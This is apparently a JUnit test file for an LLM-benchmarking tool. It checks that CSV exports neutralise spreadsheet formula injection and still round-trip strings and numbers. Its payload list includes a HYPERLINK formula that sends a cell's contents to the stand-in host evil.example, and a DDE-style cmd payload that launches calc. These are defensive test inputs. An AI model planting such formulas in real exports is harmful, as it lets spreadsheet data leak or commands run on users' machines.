package io.llmbench.report;

import static org.assertj.core.api.Assertions.assertThat;

import io.llmbench.core.Deployment;
import io.llmbench.core.EndpointResult;
import io.llmbench.core.RequestRecord;
import io.llmbench.core.RunInfo;
import io.llmbench.core.Traffic;
import io.llmbench.core.workload.PromptInfo;
import io.llmbench.report.internal.CsvIo;
import java.io.StringReader;
import java.io.StringWriter;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * CSV formula injection: no cell we write starts a formula in a spreadsheet, numbers stay
 * numbers, and our own readers give every string back exactly.
 */
class CsvInjectionTest {
    private static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";
    /** For names, which hold no line break (a reader takes one for a record that swallowed lines). */
    private static final List<String> PAYLOADS = List.of(HYPERLINK, "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)",
            "\t=1+1", "'=already quoted", "''=twice", "'plain quote", "'", "=", "-", "-5", "-0.25e-3", "+7");
    /** For free text, which may. */
    private static final List<String> TEXTS = PAYLOADS.stream().map(p -> p.equals("\t=1+1") ? "\r=1+1" : p).toList();

    private static EndpointResult named(String model, String provider, String workload, String notes) {
        EndpointResult base = Fixtures.result("e", 5, 1, 1.0, new Traffic(Traffic.Mode.CONCURRENCY, 2));
        Deployment d = base.deployment();
        Deployment evil = new Deployment(model, provider, model, d.baseUrl(), d.hardware(), d.gpuCount(), d.engine(),
                d.quantization(), d.contextWindow(), d.modelSize(), Map.of("owner", model));
        RunInfo r = base.run();
        RunInfo run = new RunInfo(r.traffic(), workload, Map.of(SummaryCsv.LABEL_HF_DATASET, workload), notes, r.cellKey(),
                r.startedAt(), r.finishedAt());
        return new EndpointResult(evil, run, base.job(), base.metrics(), base.records(), base.warnings());
    }

    private static List<String> cellsStartingFormulas(String csv) {
        List<String> bad = new ArrayList<>();
        // every cell of every record: a cell starts after the start of a line or a comma, possibly after a quote
        for (String cell : csv.split("(?<=^|,|\\n)", -1)) {
            String c = cell.startsWith("\"") ? cell.substring(1) : cell;
            if (!c.isEmpty() && "=+-@\t\r".indexOf(c.charAt(0)) >= 0 && !c.matches("[+-]?[0-9.eE+-]+(,|\\n|$)(?s).*")) {
                bad.add(cell.length() > 40 ? cell.substring(0, 40) : cell);
            }
        }
        return bad;
    }

    @Test
    void runsCsvNeutralisesFormulasAndReadsBackTheOriginalStrings() {
        List<EndpointResult> results = new ArrayList<>();
        for (int i = 0; i < PAYLOADS.size(); i++) {
            results.add(named(PAYLOADS.get(i), PAYLOADS.get(i), TEXTS.get(i), TEXTS.get(i)));
        }
        StringWriter out = new StringWriter();
        RunCsv.write(results, out);

        assertThat(cellsStartingFormulas(out.toString())).isEmpty();
        assertThat(out.toString()).contains("\"'=HYPERLINK(").contains(",-5,");
        List<EndpointResult> back = RunCsv.read(new StringReader(out.toString()), ImportOptions.ofDefaults()).rows();
        assertThat(back).extracting(e -> e.deployment().model()).containsExactlyElementsOf(PAYLOADS);
        assertThat(back).extracting(e -> e.run().notes()).containsExactlyElementsOf(TEXTS);
        assertThat(back).extracting(e -> e.run().workload()).containsExactlyElementsOf(TEXTS);
        assertThat(back).extracting(e -> e.deployment().provider()).containsExactlyElementsOf(PAYLOADS);
    }

    @Test
    void summaryCsvNeutralisesFormulasAndKeepsNegativeNumbersNumbers() {
        List<EndpointResult> results = PAYLOADS.stream().map(p -> named(p, p, p, null)).toList();
        StringWriter out = new StringWriter();
        SummaryCsv.write(results, out);

        assertThat(cellsStartingFormulas(out.toString())).isEmpty();
        // a provider and model that are negative numbers are written as they are
        assertThat(out.toString()).contains("\n-5,-5,").contains("\n-0.25e-3,-0.25e-3,").contains("\n'-,'-,");
        List<EndpointResult> back = SummaryCsv.read(new StringReader(out.toString()), ImportOptions.ofDefaults()).rows();
        assertThat(back).extracting(e -> e.deployment().model()).containsExactlyElementsOf(PAYLOADS);
        assertThat(back).extracting(e -> e.run().labels().get(SummaryCsv.LABEL_HF_DATASET)).containsExactlyElementsOf(PAYLOADS);
    }

    @Test
    void requestCsvNeutralisesErrorsAndSamplesAndReadsThemBack() {
        RequestRecord base = Fixtures.records("e", 1, 1, 1.0).get(0);
        List<RequestRecord> records = new ArrayList<>();
        for (int i = 0; i < PAYLOADS.size(); i++) {
            String p = PAYLOADS.get(i);
            records.add(new RequestRecord(p, records.size(), new PromptInfo(p, p, p, p), base.startEpochMillis(),
                    base.scheduledNanos(), base.sentNanos(), -1, -1, -1, base.endNanos(), 0, new int[0], -1,
                    base.inputSource(), -1, io.llmbench.core.TokenSource.NONE, -1, true, io.llmbench.core.FailureKind.OTHER,
                    TEXTS.get(i), 0, TEXTS.get(i)));
        }
        StringWriter out = new StringWriter();
        RequestCsv.write(records, out);

        assertThat(cellsStartingFormulas(out.toString())).isEmpty();
        List<RequestRecord> back = RequestCsv.read(new StringReader(out.toString()), ImportOptions.ofDefaults()).rows();
        assertThat(back).isEqualTo(records);
    }

    @ParameterizedTest
    @ValueSource(strings = {"-5", "-0.0", "+1.5e-05", "12", "text", "a=b", " =x", "'abc", "'"})
    void leavesNumbersAndHarmlessTextAlone(String cell) {
        assertThat(CsvIo.neutralise(cell)).isEqualTo(cell);
        assertThat(CsvIo.restore(cell)).isEqualTo(cell);
    }

    @ParameterizedTest
    @ValueSource(strings = {"=1+1", "+x", "-x", "@x", "\tx", "\rx", "'=x", "''", "'-1"})
    void quotesFormulaStartsAndRestoresThem(String cell) {
        assertThat(CsvIo.neutralise(cell)).isEqualTo("'" + cell);
        assertThat(CsvIo.restore(CsvIo.neutralise(cell))).isEqualTo(cell);
    }
}
